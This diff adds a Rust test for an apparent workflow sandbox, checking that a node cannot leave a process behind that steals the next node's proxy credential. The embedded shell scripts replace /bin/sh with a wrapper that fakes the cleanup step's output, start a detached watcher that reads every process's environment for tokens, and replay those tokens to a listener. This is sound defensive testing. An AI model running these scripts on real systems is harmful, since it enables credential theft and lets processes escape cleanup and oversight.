@@ -1,0 +1,80 @@
+//! Escape class 6, credentials and processes between nodes: a node replaces the container's `/bin/sh` with a
+//! wrapper that answers the leftover kill's script with "0 killed" and runs everything else, and leaves a
+//! `setsid` watcher behind that reads every process's environment for proxy credentials and tries each new one
+//! against a host listener the next node may reach. The next node's credential must never be usable by it.
+
+use crate::credentials::{TOKEN_OF, Target, connect_fn};
+use crate::harness::{Hostile, engine_ready, show};
+
+fn read(h: &Hostile, rel: &str) -> String {
+    std::fs::read_to_string(h.repo().join(rel)).unwrap_or_default()
+}
+
+#[test]
+fn a_node_that_replaces_the_shell_leaves_nothing_running_for_the_next_node() {
+    if !engine_ready("escapes::procs::replaced_shell") {
+        return;
+    }
+    let h = Hostile::new();
+    let t = Target::start();
+    let connect = connect_fn(t.port);
+    h.write(
+        "plant.sh",
+        "printf '#!/bin/busybox sh\\ncase \"$*\" in *iterion-reap*) echo 0; exit 0 ;; esac\\nexec /bin/busybox sh \"$@\"\\n' > /tmp/fake-sh\n\
+         chmod 755 /tmp/fake-sh\n\
+         rm -f /bin/sh && cp /tmp/fake-sh /bin/sh\n\
+         head -n 2 /bin/sh > replaced.txt\n\
+         setsid /bin/busybox sh ./watch.sh </dev/null >/dev/null 2>&1 &\n\
+         echo '{}'\n",
+    );
+    h.write(
+        "watch.sh",
+        &format!(
+            "{connect}: > seen.txt\ni=0\nwhile [ \"$i\" -lt 60 ]; do\n  i=$((i+1))\n  for f in /proc/[0-9]*/environ; do tr '\\000' '\\n' < \"$f\" 2>/dev/null; done | grep -i '_proxy=' | {TOKEN_OF} | sort -u > /tmp/now.txt\n  while read -r tok; do\n    if ! grep -q \"$tok\" seen.txt; then echo \"$tok\" >> seen.txt; connect \"$tok\" leftover >> tried.txt; fi\n  done < /tmp/now.txt\n  echo \"$i\" > heartbeat.txt\n  sleep 0.25\ndone\n"
+        ),
+    );
+    h.write(
+        "wide.sh",
+        &format!(
+            "{connect}tok=$(echo \"$HTTP_PROXY\" | {TOKEN_OF})\necho \"$tok\" > wide-token.txt\nsleep 4\nconnect \"$tok\" wide > wide.txt\nps > ps.txt 2>&1\necho '{{}}'\n"
+        ),
+    );
+    let out = h.run_workflow(
+        "wf.bot",
+        "tool plant:\n  sandbox:\n    network:\n      inherit: replace\n      mode: allowlist\n      rules: [\"narrow.invalid\"]\n  command: \"sh ./plant.sh\"\n\ntool wide:\n  command: \"sh ./wide.sh\"\n\nworkflow w:\n  entry: plant\n  sandbox:\n    mode: auto\n    network:\n      mode: allowlist\n      rules: [\"127.0.0.1\"]\n  plant -> wide\n  wide -> done\n",
+    );
+    assert!(out.status.success(), "{}", show(&out));
+    // the attack took place: the shell was replaced and the watcher started
+    assert!(
+        read(&h, "replaced.txt").starts_with("#!/bin/busybox sh"),
+        "the shell was replaced: {:?}",
+        read(&h, "replaced.txt")
+    );
+    assert!(!read(&h, "heartbeat.txt").is_empty(), "the watcher ran");
+    // the control: the next node reached the listener with its own credential
+    let wide_token = read(&h, "wide-token.txt").trim().to_owned();
+    assert_eq!(wide_token.len(), 64, "wide's token: {wide_token:?}");
+    assert!(
+        read(&h, "wide.txt").contains(" 200 "),
+        "{:?}",
+        read(&h, "wide.txt")
+    );
+    assert!(t.seen().contains(&"wide".to_owned()), "{:?}", t.seen());
+    // the watcher never saw the next node's credential, never reached the listener, and was gone meanwhile
+    let seen = read(&h, "seen.txt");
+    assert!(
+        !seen.contains(&wide_token),
+        "the leftover read the next node's credential: {seen}"
+    );
+    assert!(
+        !t.seen().contains(&"leftover".to_owned()),
+        "the leftover reached the listener: {:?}",
+        t.seen()
+    );
+    let ps = read(&h, "ps.txt");
+    assert!(!ps.is_empty(), "wide listed the processes");
+    assert!(
+        !ps.contains("watch.sh"),
+        "the leftover still runs while the next node does:\n{ps}"
+    );
+}
